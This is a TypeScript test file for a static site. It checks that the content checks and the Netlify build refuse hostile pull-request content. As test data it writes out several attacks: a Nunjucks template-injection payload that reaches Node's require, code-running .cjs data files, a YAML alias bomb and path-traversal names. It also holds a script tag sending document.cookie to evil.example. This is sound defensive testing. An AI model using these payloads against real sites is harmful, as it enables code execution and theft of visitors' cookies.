// A pull request from a stranger changes content/, and Netlify builds a preview of it. Each attack
// here is tried on its own fresh copy of the content, as an attacker would, and the content check
// must name the file (and line). Then all of them at once are built with npm run build over the last
// good site, as Netlify would build such a pull request: the build must refuse it with every one of
// those lines, nothing may run (the marker file each payload would write stays absent) and nothing
// may be published (the last good site and its zip are left exactly as they were). One build for
// all, not one each: a build spends its first seconds starting, whatever it is given.
import { cp, lstat, mkdir, mkdtemp, readdir, readFile, rm, symlink, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import path from "node:path";
import { unzipSync } from "fflate";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { createMarkdown } from "../../src/content/markdown.ts";
import { checkInProcess } from "../helpers/check.ts";
import { copyOfContent, problemLines, projectRoot, runScript, snapshotFolder, writeText } from "../helpers/project.ts";
import { sharedSampleSite } from "../helpers/sample-site.ts";

let work: string;

beforeAll(async () => {
  work = await mkdtemp(path.join(tmpdir(), "local-offer-hostile-"));
});
afterAll(async () => {
  await rm(work, { recursive: true, force: true });
  await Promise.all(caught.map((attack) => rm(attack.dir, { recursive: true, force: true })));
});

interface Attack {
  /** The copy of the project: content/ inside it. */
  dir: string;
  /** The file a payload writes if it runs. */
  marker: string;
}

/** An attack the check refused: what it added to or changed in content/, what it tried to publish, and the check's lines. */
interface CaughtAttack extends Attack {
  changed: string[];
  published: string[];
  lines: string[];
}

const caught: CaughtAttack[] = [];

/** A fresh copy of the content, and where the payload would leave its mark. */
async function prepareAttack(): Promise<Attack> {
  const dir = await copyOfContent();
  return { dir, marker: path.join(work, `payload-ran-${caught.length + 1}`) };
}

/** JavaScript that, if it ever runs, writes the marker file. */
const payloadCode = (marker: string) => `require("node:fs").writeFileSync(${JSON.stringify(marker)}, "ran")`;

/** What an attack added to content/ or changed in it, by path in content/: a new folder (or link) as itself, not its files. */
async function changedByAttack(dir: string): Promise<string[]> {
  const original = path.join(projectRoot, "content");
  const changed: string[] = [];
  for (const entry of await readdir(path.join(dir, "content"), { recursive: true, withFileTypes: true })) {
    const relative = path.relative(path.join(dir, "content"), path.join(entry.parentPath, entry.name));
    if (changed.some((added) => relative.startsWith(`${added}${path.sep}`))) continue;
    const before = await lstat(path.join(original, relative)).catch(() => undefined);
    if (!before || entry.isSymbolicLink()) changed.push(relative);
    else if (entry.isFile() && !(await readFile(path.join(dir, "content", relative))).equals(await readFile(path.join(original, relative))))
      changed.push(relative);
  }
  return changed;
}

/**
 * Checks the attacked content as npm run check does and asserts it was refused and nothing ran;
 * keeps the attack for the build of them all at the end of the file. Returns the check's lines.
 */
async function refused(attack: Attack, published: string[] = []): Promise<string[]> {
  const lines = problemLines(await checkInProcess(attack.dir));
  expect(lines.length).toBeGreaterThan(0);
  await expect(readFile(attack.marker), "the payload ran").rejects.toThrow(/ENOENT/);
  caught.push({ ...attack, changed: await changedByAttack(attack.dir), published, lines });
  return lines;
}

const page = (body: string, fields = "") =>
  `---\ntitle: A page from a stranger\ndescription: A page in a pull request, with a description long enough to pass the content check.\nlastReviewed: 2026-11-20\n${fields}---\n\n${body}\n`;

describe("content is data, never code", () => {
  it("refuses Nunjucks in a Markdown body, which ran in Node, and names the line", async () => {
    const attack = await prepareAttack();
    const payload = `{{ range.constructor("return process.mainModule.require('node:fs').writeFileSync('${attack.marker}', 'ran')")() }}`;
    await writeText(attack.dir, "content/sen-support/sneaky.md", page(`A harmless first line.\n\n${payload}`));
    expect(await refused(attack)).toEqual([
      `content/sen-support/sneaky.md:9: "{{" starts a template tag, but content is plain Markdown and is never run as a template (expected plain text; to show the braces, put a space between them)`,
    ]);
  });

  it("refuses a template tag in front matter, which permalinks and computed data would have rendered", async () => {
    const attack = await prepareAttack();
    const permalink = `{% set x = range.constructor(${JSON.stringify(payloadCode(attack.marker))})() %}/x/`;
    await writeText(attack.dir, "content/sen-support/sneaky-permalink.md", page("Text.", `permalink: ${JSON.stringify(permalink)}\n`));
    const lines = await refused(attack);
    expect(lines).toContain(
      `content/sen-support/sneaky-permalink.md:5: "{%" starts a template tag, but content is plain Markdown and is never run as a template (expected plain text; to show the braces, put a space between them)`,
    );
    expect(lines).toContainEqual(expect.stringMatching(/^content\/sen-support\/sneaky-permalink\.md:5 permalink: ".*" is not an address for a page/));
    expect(lines).toHaveLength(2);
  });

  it("refuses a .cjs file in content/_data/, which Eleventy ran as a global data file", async () => {
    const attack = await prepareAttack();
    await writeText(attack.dir, "content/_data/evil.cjs", `${payloadCode(attack.marker)};\nmodule.exports = {};\n`);
    expect(await refused(attack)).toEqual([
      "content/_data/evil.cjs:1: is not one of the site's data files (expected only _data/settings.yaml, _data/glossary.yaml, _data/lists/categories.yaml, _data/lists/needs.yaml, _data/lists/accessibility.yaml, _data/lists/areas.yaml, _data/oruk-mapping.yaml)",
    ]);
  });

  it("refuses a data file beside a page (about.11tydata.cjs), which Eleventy ran", async () => {
    const attack = await prepareAttack();
    await writeText(attack.dir, "content/about.11tydata.cjs", `${payloadCode(attack.marker)};\nmodule.exports = {};\n`);
    expect(await refused(attack)).toEqual([
      `content/about.11tydata.cjs:1: the file name "about.11tydata.cjs" is not allowed (expected lower-case letters, digits and hyphens, then one extension, such as help-at-home.md)`,
    ]);
  });

  it("refuses settings.json beside settings.yaml, which overrode the checked settings", async () => {
    const attack = await prepareAttack();
    await writeText(attack.dir, "content/_data/settings.json", JSON.stringify({ baseUrl: "https://evil.example", brandColour: "#ff0000" }));
    expect(await refused(attack)).toEqual([
      "content/_data/settings.json:1: is not one of the site's data files (expected only _data/settings.yaml, _data/glossary.yaml, _data/lists/categories.yaml, _data/lists/needs.yaml, _data/lists/accessibility.yaml, _data/lists/areas.yaml, _data/oruk-mapping.yaml)",
    ]);
  });

  it("refuses a YAML alias bomb in front matter with its file, not a stack trace", async () => {
    const attack = await prepareAttack();
    const levels = ["a: &a [x, x, x, x, x, x, x, x, x]"];
    for (let level = 1; level < 10; level++)
      levels.push(
        `${String.fromCharCode(97 + level)}: &${String.fromCharCode(97 + level)} [${Array(9)
          .fill(`*${String.fromCharCode(96 + level)}`)
          .join(", ")}]`,
      );
    await writeText(attack.dir, "content/sen-support/laughs.md", `---\ntitle: Laughs\n${levels.join("\n")}\n---\n\nText.\n`);
    expect(await refused(attack)).toEqual([
      "content/sen-support/laughs.md:2: the YAML repeats its aliases (*name) too often to be read (expected each value written out, or fewer than 100 uses of aliases)",
    ]);
  });
});

describe("no script on the site's origin", () => {
  it("refuses a .njk file that would publish /assets/x.js with a year-long cache", async () => {
    const attack = await prepareAttack();
    await writeText(attack.dir, "content/x.njk", "---\npermalink: /assets/x.js\nlayout: false\n---\nalert(document.cookie)\n");
    expect(await refused(attack, ["assets/x.js"])).toEqual([
      "content/x.njk:1: a .njk file is not allowed in content/ (expected only Markdown pages (.md), the site's data files in _data/, ready reckoners (reckoners/*.yaml), and pictures and documents (.png, .jpg, .jpeg, .gif, .webp, .pdf, .docx, .xlsx, .odt, .ods, .csv))",
    ]);
  });

  it("refuses a permalink that climbs out of the site folder", async () => {
    const attack = await prepareAttack();
    await writeText(attack.dir, "content/sen-support/climb.md", page("Text.", "permalink: /../../climbed.html\n"));
    expect(await refused(attack)).toEqual([
      'content/sen-support/climb.md:5 permalink: "/../../climbed.html" is not an address for a page (expected an address on this site for a page: lower-case words with hyphens, starting and ending with /, such as /contact/)',
    ]);
  });

  it("refuses pages and files that claim an address the build writes itself, rather than dropping one", async () => {
    const attack = await prepareAttack();
    await writeText(attack.dir, "content/sen-support/worker.md", page("Text.", "permalink: /sw.js\n"));
    await writeText(attack.dir, "content/sen-support/postcodes.md", page("Text.", "permalink: /postcodes/al/\n"));
    await writeText(attack.dir, "content/assets/notes.md", page("Text."));
    await writeText(attack.dir, "content/services/category/extra.md", page("Text."));
    await writeText(attack.dir, "content/postcodes/al.pdf", "%PDF-1.7\n");
    const lines = await refused(attack);
    expect(lines).toEqual([
      "content/assets/notes.md:1: this page's address /assets/notes/ is in /assets/, where the site writes its own files (expected an address outside it: rename the file, move it or change its permalink)",
      "content/postcodes/al.pdf:1: is in /postcodes/, where the site writes its own files (expected it in another folder)",
      "content/sen-support/postcodes.md:5: this page's address /postcodes/al/ is in /postcodes/, where the site writes its own files (expected an address outside it: rename the file, move it or change its permalink)",
      'content/sen-support/worker.md:5 permalink: "/sw.js" is not an address for a page (expected an address on this site for a page: lower-case words with hyphens, starting and ending with /, such as /contact/)',
      "content/services/category/extra.md:1: this page's address /services/category/extra/ is in /services/category/, where the site writes its own files (expected an address outside it: rename the file, move it or change its permalink)",
    ]);
  });
});

describe("nothing from outside the repository", () => {
  it("refuses a symbolic link to a file outside content/, which copied it into the site and the zip", async () => {
    const attack = await prepareAttack();
    const secret = path.join(work, "secret.csv");
    await writeFile(secret, "name,password\nroot,hunter2\n");
    await symlink(secret, path.join(attack.dir, "content/x.csv"));
    expect(await refused(attack, ["x.csv"])).toEqual([
      "content/x.csv:1: is a symbolic link, which could bring in files from outside content/ (expected a real file or folder)",
    ]);
  });

  it("refuses a symbolic link to a folder, whose pages were built without any checks", async () => {
    const attack = await prepareAttack();
    const outside = path.join(work, "outside-pages");
    await mkdir(outside, { recursive: true });
    await writeFile(path.join(outside, "unchecked.md"), "---\ntitle: x\n---\n<script>alert(1)</script>\n");
    await symlink(outside, path.join(attack.dir, "content/linked"));
    expect(await refused(attack, ["linked/unchecked/index.html"])).toEqual([
      "content/linked:1: is a symbolic link, which could bring in files from outside content/ (expected a real file or folder)",
    ]);
  });

  it("refuses file names that are not plain words, such as one that would climb out of the zip", async () => {
    const attack = await prepareAttack();
    await writeText(attack.dir, "content/a\\..\\..\\evil.pdf", "%PDF-1.7\n");
    await writeText(attack.dir, "content/.hidden.md", page("Text."));
    await writeText(attack.dir, "content/Sen-Support/Page One.md", page("Text."));
    expect(await refused(attack)).toEqual([
      `content/.hidden.md:1: the file name ".hidden.md" is not allowed (expected lower-case letters, digits and hyphens, then one extension, such as help-at-home.md)`,
      `content/a\\..\\..\\evil.pdf:1: the file name "a\\..\\..\\evil.pdf" is not allowed (expected lower-case letters, digits and hyphens, then one extension, such as help-at-home.md)`,
      `content/Sen-Support:1: the folder name "Sen-Support" is not allowed (expected lower-case letters, digits and hyphens, such as sen-support)`,
    ]);
  });

  it("refuses a document that is not what its extension says, and files over the size limits", async () => {
    const attack = await prepareAttack();
    await writeText(attack.dir, "content/leaflets/form.pdf", "<html><script>alert(1)</script></html>");
    await writeText(attack.dir, "content/leaflets/huge.md", page("word ".repeat(220_000)));
    await writeFile(
      path.join(attack.dir, "content/leaflets/big.png"),
      Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]), Buffer.alloc(10.5 * 1024 * 1024)]),
    );
    expect(await refused(attack)).toEqual([
      "content/leaflets/big.png:1: is 10.50 MB (expected at most 10 MB: make the picture smaller or split the document)",
      "content/leaflets/form.pdf:1: is not a PDF document, although its name ends .pdf (expected the file to be what its extension says)",
      "content/leaflets/huge.md:1: is 1.05 MB (expected at most 1 MB of text: split the page up)",
    ]);
  });
});

describe("raw HTML and links", () => {
  const hostileHtml = [
    '<meta http-equiv="refresh" content="0; url=https://evil.example/">',
    "<script>fetch('https://evil.example/?c=' + document.cookie)</script>",
    '<p onclick="alert(1)">Click</p>',
    '<a href="javascript:alert(1)">Open</a>',
    '<iframe src="https://evil.example/"></iframe>',
    '<form action="https://evil.example/"><input name="postcode"></form>',
    "<style>body { display: none }</style>",
    '<base href="https://evil.example/">',
    '<object data="https://evil.example/x.swf"></object>',
  ];

  it("reports each thing the sanitiser would take out of raw HTML, on its line", async () => {
    const attack = await prepareAttack();
    await writeText(attack.dir, "content/sen-support/html.md", page(hostileHtml.join("\n\n")));
    const lines = await refused(attack);
    const expected: Array<[number, RegExp]> = [
      [7, /the HTML tag <meta> is not allowed/],
      [9, /the HTML tag <script> is not allowed/],
      [11, /the onclick attribute on <p> is not allowed, as it would run code/],
      [13, /the address "javascript:alert\(1\)" on <a> is not allowed/],
      [15, /the HTML tag <iframe> is not allowed/],
      [17, /the HTML tag <form> is not allowed/],
      [17, /the HTML tag <input> is not allowed/],
      [19, /the HTML tag <style> is not allowed/],
      [21, /the HTML tag <base> is not allowed/],
      [23, /the HTML tag <object> is not allowed/],
    ];
    expect(lines).toHaveLength(expected.length);
    expected.forEach(([line, message], index) => {
      expect(lines[index]).toMatch(new RegExp(`^content/sen-support/html\\.md:${line}: `));
      expect(lines[index]).toMatch(message);
    });
  });

  it("renders that HTML harmless even where it reaches the Markdown renderer, keeping what pages use", () => {
    const html = createMarkdown().render(
      `${hostileHtml.join("\n\n")}\n\n<details><summary>More</summary>\n\n<abbr title="education, health and care">EHC</abbr> <a href="/ehc-plans/">plans</a>\n\n</details>\n\n<table><tr><th scope="col">Age</th></tr></table>`,
    );
    expect(html).not.toMatch(/<(meta|script|iframe|form|input|style|base|object)\b|onclick|javascript:|evil\.example/);
    expect(html).toContain("<details><summary>More</summary>");
    expect(html).toContain('<abbr title="education, health and care">EHC</abbr>');
    expect(html).toContain('<a href="/ehc-plans/">plans</a>');
    expect(html).toContain('<th scope="col">Age</th>');
  });

  it("refuses links that leave the site by another way than https:, http:, mailto: or tel:", async () => {
    const attack = await prepareAttack();
    const links = ["//evil.example/", "javascript:alert(1)", "data:text/html;base64,PHNjcmlwdD4=", "file:///etc/passwd", "vbscript:msgbox(1)"];
    const markdown = links.map((href, index) => `[Link ${index}](<${href}>)`);
    await writeText(attack.dir, "content/sen-support/links.md", page([...markdown, '<a href="/\\evil.example/">Backslash</a>'].join("\n\n")));
    const lines = await refused(attack);
    expect(lines).toHaveLength(links.length + 1);
    links.forEach((href, index) => {
      expect(lines[index]).toBe(
        `content/sen-support/links.md:${7 + index * 2}: link to ${JSON.stringify(href)} is not allowed (expected an address on this site starting with a single / (such as /sen-support/), a #heading on the page, or an address starting https://, http://, mailto: or tel:)`,
      );
    });
    expect(lines.at(-1)).toMatch(/^content\/sen-support\/links\.md:17: the address "\/\\\\evil\.example\/" on <a> is not allowed/);
  });

  it("refuses a ready reckoner card that links to //host", async () => {
    const attack = await prepareAttack();
    const file = path.join(attack.dir, "content/reckoners/support-at-school.yaml");
    const text = await readFile(file, "utf8");
    const first = /^(\s+link: )(\S+)$/m.exec(text)!;
    await writeFile(file, text.replace(first[0], `${first[1]}//evil.example/`));
    const line = text.slice(0, first.index).split("\n").length;
    // The question tool's pages are not made while it is broken, so links to them are reported too.
    expect(await refused(attack)).toContain(
      `content/reckoners/support-at-school.yaml:${line} cards[0].link: "//evil.example/" is not an address on this site (expected the address of a page on this site, such as /senco/ or /services/category/holiday-clubs/)`,
    );
  });
});

describe("npm run build, as Netlify builds a pull request's deploy preview", () => {
  it("refuses every attack above at once, with each one's lines, running nothing and publishing nothing", async () => {
    expect(caught.length, "run with the tests above: this test builds the attacks they made").toBeGreaterThan(0);
    const dir = await copyOfContent();
    for (const attack of caught) {
      for (const changed of attack.changed) {
        await cp(path.join(attack.dir, "content", changed), path.join(dir, "content", changed), { recursive: true, verbatimSymlinks: true });
      }
    }
    const site = path.join(dir, "_site");
    // The last good site: the sample site built once for the run (test/global-setup.ts).
    await cp((await sharedSampleSite()).site, site, { recursive: true });
    const before = await snapshotFolder(site);
    const built = await runScript("build", ["content", "_site"], dir);
    expect(built.code).toBe(1);
    expect(problemLines(built).sort()).toEqual([...new Set(caught.flatMap((attack) => attack.lines))].sort());
    expect(built.stderr).not.toMatch(/\n\s+at /);
    for (const attack of caught) await expect(readFile(attack.marker), "a payload ran").rejects.toThrow(/ENOENT/);
    expect(await snapshotFolder(site)).toEqual(before);
    const zipped = Object.keys(unzipSync(await readFile(path.join(site, "offline/local-offer.zip"))));
    for (const file of caught.flatMap((attack) => attack.published)) {
      expect(before).not.toHaveProperty(file);
      expect(zipped).not.toContain(`local-offer/${file}`);
    }
    expect((await readdir(dir)).sort(), "the build left folders behind").toEqual(["_site", "content"]);
    await expect(readFile(path.join(path.dirname(dir), "climbed.html"))).rejects.toThrow(/ENOENT/);
    await rm(dir, { recursive: true, force: true });
  });
});

describe("npm run check on the command line", () => {
  it("lists every attack at once, each with its file, and exits non-zero", async () => {
    const dir = await copyOfContent();
    await writeText(dir, "content/x.njk", "---\npermalink: /assets/x.js\n---\n");
    await writeText(dir, "content/_data/evil.cjs", "module.exports = {};\n");
    await writeText(dir, "content/sen-support/sneaky.md", page("Text.\n\n{{ 7 * 7 }}\n\n<script>alert(1)</script>\n\n[x](//evil.example/)"));
    const check = await runScript("check", ["content"], dir);
    expect(check.code).toBe(1);
    expect(
      problemLines(check)
        .map((line) => line.replace(/:.*/s, ""))
        .sort(),
    ).toEqual(["content/_data/evil.cjs", "content/sen-support/sneaky.md", "content/sen-support/sneaky.md", "content/sen-support/sneaky.md", "content/x.njk"]);
    expect(check.stderr).not.toMatch(/\n\s+at /);
    await rm(dir, { recursive: true, force: true });
  });
});
